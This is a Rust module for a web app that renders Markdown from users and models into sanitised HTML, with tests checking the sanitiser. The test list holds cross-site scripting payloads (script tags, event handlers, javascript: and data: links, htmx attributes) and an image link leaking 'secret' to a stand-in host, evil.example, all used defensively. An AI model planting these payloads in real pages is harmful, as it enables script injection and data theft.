//! Renders Markdown of people and models to HTML that is safe within a page. Nothing else turns
//! untrusted text into HTML.
//!
//! Two defences follow each other: raw HTML in the source becomes plain text before rendering, and
//! the result passes an allow-list of tags and attributes (`sanitiser`). Images become links,
//! because loading one would tell its host that the answer was read. `live` renders an answer that
//! is still being written; `highlight` and `languages` colour code.

mod highlight;
mod languages;
mod live;
mod sanitiser;

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};

pub(crate) use live::LiveMarkdown;

/// HTML that passed the sanitiser. Templates insert it without escaping.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct SafeHtml(String);

impl SafeHtml {
    pub(crate) fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

impl std::fmt::Display for SafeHtml {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl askama::filters::HtmlSafe for SafeHtml {}

/// Returns the dialect: CommonMark with tables, strike-through and task lists. No footnotes, no
/// mathematics, no raw HTML.
fn dialect() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

/// Renders a whole text. `copy_label` is the label of a code block's button, in the reader's
/// language.
pub(crate) fn render(text: &str, copy_label: &str) -> SafeHtml {
    let events = Parser::new_ext(text, dialect());
    let mut out = String::with_capacity(text.len() * 2);
    html::push_html(&mut out, SafeEvents::new(events, copy_label));
    SafeHtml(sanitiser::sanitise(&out))
}

/// The event stream with raw HTML as text, images as links, and code blocks with a heading and a
/// copy button.
struct SafeEvents<'l, I> {
    inner: I,
    copy_label: &'l str,
    in_image: u32,
}

impl<'l, I> SafeEvents<'l, I> {
    fn new(inner: I, copy_label: &'l str) -> Self {
        Self { inner, copy_label, in_image: 0 }
    }
}

impl<'a, I: Iterator<Item = Event<'a>>> SafeEvents<'_, I> {
    /// Reads the text of the code block that has just started, which comes line by line.
    fn read_code(&mut self) -> String {
        let mut code = String::new();
        for event in self.inner.by_ref() {
            match event {
                Event::Text(text) => code.push_str(&text),
                Event::End(TagEnd::CodeBlock) => break,
                _ => {}
            }
        }
        code
    }
}

impl<'a, I: Iterator<Item = Event<'a>>> Iterator for SafeEvents<'_, I> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        Some(match self.inner.next()? {
            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
            Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
            Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
            Event::Start(Tag::Image { link_type, dest_url, id, .. }) => {
                self.in_image += 1;
                // HTML allows no link within a link: only the outermost image becomes one.
                if self.in_image > 1 {
                    return Some(Event::Text(CowStr::Borrowed("")));
                }
                Event::Start(Tag::Link { link_type, dest_url, title: CowStr::Borrowed(""), id })
            }
            Event::End(TagEnd::Image) => {
                self.in_image = self.in_image.saturating_sub(1);
                if self.in_image > 0 {
                    return Some(Event::Text(CowStr::Borrowed("")));
                }
                Event::End(TagEnd::Link)
            }
            Event::Start(Tag::CodeBlock(kind)) => {
                let language = match &kind {
                    CodeBlockKind::Fenced(info) => info.split([' ', ',', '{']).next().unwrap_or_default(),
                    CodeBlockKind::Indented => "",
                };
                Event::Html(CowStr::from(code_block(language, &self.read_code(), self.copy_label)))
            }
            other => other,
        })
    }
}

/// Returns a code block with its heading and its button.
fn code_block(language: &str, code: &str, copy_label: &str) -> String {
    format!(
        "<div class=\"code\"><div class=\"code-head\"><span>{}</span><button class=\"copy-code\" type=\"button\">{}</button></div><pre><code>{}</code></pre></div>\n",
        escape(language),
        escape(copy_label),
        highlight::highlight(language, code)
    )
}

fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            other => out.push(other),
        }
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;

    fn html(text: &str) -> String {
        render(text, "Copy").to_string()
    }

    #[test]
    fn no_attack_survives_rendering() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "[click](  JaVaScRiPt:alert(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "<button hx-get=\"/account\" hx-trigger=\"load\">x</button>",
            "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
            "![steal](https://evil.example/?q=secret)",
            "[x](https://a.example/\"onmouseover=\"alert(1))",
            "```\"><script>alert(1)</script>\ncode </code></pre><script>alert(2)</script>\n```",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<hx-partial hx-target=\"body\"><form action=\"https://evil.example\"></form></hx-partial>",
            "| a |\n|---|\n| <style>*{display:none}</style> |",
            "<math><mtext></math><a href=\"vbscript:x\">x</a>",
            "`<img src=x onerror=alert(1)>`",
            "<https://ok.example/<script>alert(1)</script>>",
            "- [ ] <input onfocus=alert(1) autofocus>",
        ];
        for attack in attacks {
            let out = html(attack);
            let reparsed = sanitiser::sanitise(&out);
            assert_eq!(reparsed, out, "a second pass found something to remove in {attack}");
            let lower = out.to_lowercase();
            for forbidden in ["<script", "<img", "<svg", "<iframe", "<style", "<form", "<hx-", "<math"] {
                assert!(!lower.contains(forbidden), "{attack} left {forbidden}: {out}");
            }
            for tag in out.split('<').skip(1).map(|rest| rest.split('>').next().unwrap().to_lowercase()) {
                for forbidden in [
                    " on",
                    " hx-",
                    " style",
                    " srcdoc",
                    " autofocus",
                    " id=",
                    "=\"javascript",
                    "=\"data",
                    "=\"vbscript",
                ] {
                    assert!(!tag.contains(forbidden), "{attack} left an attribute{forbidden} in <{tag}>");
                }
            }
        }
    }

    #[test]
    fn image_becomes_a_link() {
        let out = html("![a *cat*](https://example.org/cat.png)");
        assert!(out.contains("<a href=\"https://example.org/cat.png\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a <em>cat</em></a>"), "{out}");
    }

    #[test]
    fn code_block_has_its_language_and_a_copy_button() {
        insta::assert_snapshot!(html("Here:\n\n```rust\nfn main() { println!(\"<hi>\"); }\n```\n\nand `x < y`."), @r#"
        <p>Here:</p>
        <div class="code"><div class="code-head"><span>rust</span><button class="copy-code" type="button">Copy</button></div><pre><code><span class="k">fn</span> main() { println!(<span class="s">"&lt;hi&gt;"</span>); }
        </code></pre></div>
        <p>and <code>x &lt; y</code>.</p>
        "#);
    }

    #[test]
    fn table_keeps_its_alignment_without_inline_styles() {
        let out = html("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |");
        assert!(out.contains("<td class=\"right\">2</td>") && out.contains("<td class=\"centre\">3</td>"), "{out}");
        assert!(!out.contains("style="), "{out}");
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        assert!(html("<b>bold</b>").contains("&lt;b&gt;bold&lt;/b&gt;"));
    }
}
